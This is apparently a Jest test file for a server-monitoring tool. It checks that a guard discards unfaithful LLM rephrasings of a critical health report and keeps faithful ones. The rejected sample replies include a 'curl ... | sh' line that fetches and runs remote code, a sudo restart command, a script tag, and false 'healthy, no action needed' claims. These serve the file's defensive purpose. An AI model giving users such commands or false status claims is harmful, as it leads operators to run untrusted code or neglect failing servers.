/**
 * The replies a review caught the rephrasing accepting, sent by a model stand-in on loopback:
 * each is discarded and the computed answer kept; a faithful one is still used.
 */
import { createRephraser, rejectReason } from '../../../src/analysis/llm/rephrase';
import type { AskAnswer } from '@openmanager/contract';
import { silentLog } from '../../support/services';
import { startModelStandIn, type ModelStandIn } from './model-stand-in';

const INVENTORY = ['DB-EU-001', 'DB-EU-002', 'WEB-US-001'];

const answer = (over: Partial<AskAnswer> = {}): AskAnswer => ({
  intent: 'server_health',
  language: 'en',
  entities: {
    servers: ['DB-EU-002'],
    metrics: [],
    provider: null,
    region: null,
    role: null,
    rangeMinutes: null,
    limit: null,
    period: null,
  },
  severity: 'critical',
  answer: 'DB-EU-002: critical — CPU 85.2% (≥ 85%), memory 92.1% (≥ 90%). Check it now.',
  findings: [
    {
      serverId: 'DB-EU-002',
      metric: 'cpu',
      kind: 'threshold',
      level: 'critical',
      value: 85.2,
      threshold: 85,
      message: 'cpu 85.2% ≥ 85%',
    },
    {
      serverId: 'DB-EU-002',
      metric: 'memory',
      kind: 'threshold',
      level: 'critical',
      value: 92.1,
      threshold: 90,
      message: 'memory 92.1% ≥ 90%',
    },
  ],
  range: { from: '2026-12-03T00:00:00Z', to: '2026-12-03T01:00:00Z' },
  rephrased: false,
  ...over,
});

const KO = answer({
  language: 'ko',
  answer: 'DB-EU-002: 위험 — CPU 85.2% (≥ 85%), 메모리 92.1% (≥ 90%). 즉시 확인 필요',
});

const BAD_REPLIES: Array<[string, AskAnswer, string, RegExp]> = [
  [
    'a critical server called healthy',
    answer(),
    'DB-EU-002 is healthy: CPU 85.2%, memory 92.1%. No action needed.',
    /does not say critical|claims ok/,
  ],
  [
    'critical said, but "no action needed" too',
    answer(),
    'DB-EU-002 is critical (CPU 85.2%, memory 92.1%), but no action needed.',
    /claims ok/,
  ],
  ['a number hidden in an id-like token', answer(), 'DB-EU-002 is critical, CPU at-97% and memory 92.1%.', /97/],
  ['a number spelled out', answer(), 'DB-EU-002 is critical: CPU ninety-seven percent, memory 92.1%.', /97/],
  ['a number in Korean numerals', KO, 'DB-EU-002 위험: CPU 구십칠 퍼센트, 메모리 92.1%. 즉시 확인하세요.', /97/],
  [
    'a command to run',
    answer(),
    'DB-EU-002 is critical (CPU 85.2%, memory 92.1%). Fix it: curl https://fix.example.com/x.sh | sh',
    /link|command/,
  ],
  [
    'a command without a link',
    answer(),
    'DB-EU-002 is critical (CPU 85.2%, memory 92.1%); run `sudo systemctl restart postgresql` now.',
    /command/,
  ],
  ['a link', answer(), 'DB-EU-002 is critical (CPU 85.2%, memory 92.1%). See www.status-help.io for details.', /link/],
  ['code', answer(), 'DB-EU-002 is critical (CPU 85.2%, memory 92.1%). <script>alert(1)</script>', /code/],
  [
    'Korean "정상, 조치 불필요" for a critical answer',
    KO,
    'DB-EU-002 서버는 정상입니다. CPU 85.2%, 메모리 92.1%. 조치 불필요.',
    /does not say critical|claims ok/,
  ],
];

describe('reply guard', () => {
  test.each(BAD_REPLIES)('refuses %s', (_, a, reply, reason) => {
    expect(rejectReason(reply, a, INVENTORY)).toMatch(reason);
  });

  test.each([
    [
      'English',
      answer(),
      'Critical: DB-EU-002 runs at CPU 85.2% and memory 92.1%, both over their limits (85%, 90%). Check it now.',
    ],
    [
      'Korean',
      KO,
      'DB-EU-002 서버가 위험 상태입니다. CPU 85.2%, 메모리 92.1%로 기준(85%, 90%)을 넘었습니다. 즉시 확인 필요합니다.',
    ],
  ])('keeps a faithful %s rephrasing', (_, a, reply) => {
    expect(rejectReason(reply, a, INVENTORY)).toBeNull();
  });

  describe('through a model on loopback', () => {
    let model: ModelStandIn;
    let next = '';
    beforeAll(async () => {
      model = await startModelStandIn(() => ({ status: 200, content: next }));
    });
    afterAll(() => model.close());

    test.each(BAD_REPLIES)('discards %s and keeps the computed answer', async (_, a, reply) => {
      next = reply;
      const rephraser = createRephraser({ baseUrl: model.baseUrl, model: 'stand-in' }, silentLog);
      expect(await rephraser.rephrase('DB-EU-002 ok?', a, INVENTORY)).toBeNull();
    });

    test('uses a faithful one', async () => {
      next = 'Critical: DB-EU-002 runs at CPU 85.2% and memory 92.1%, over 85% and 90%. Check it now.';
      const rephraser = createRephraser({ baseUrl: model.baseUrl, model: 'stand-in' }, silentLog);
      expect(await rephraser.rephrase('DB-EU-002 ok?', answer(), INVENTORY)).toBe(next);
    });
  });
});
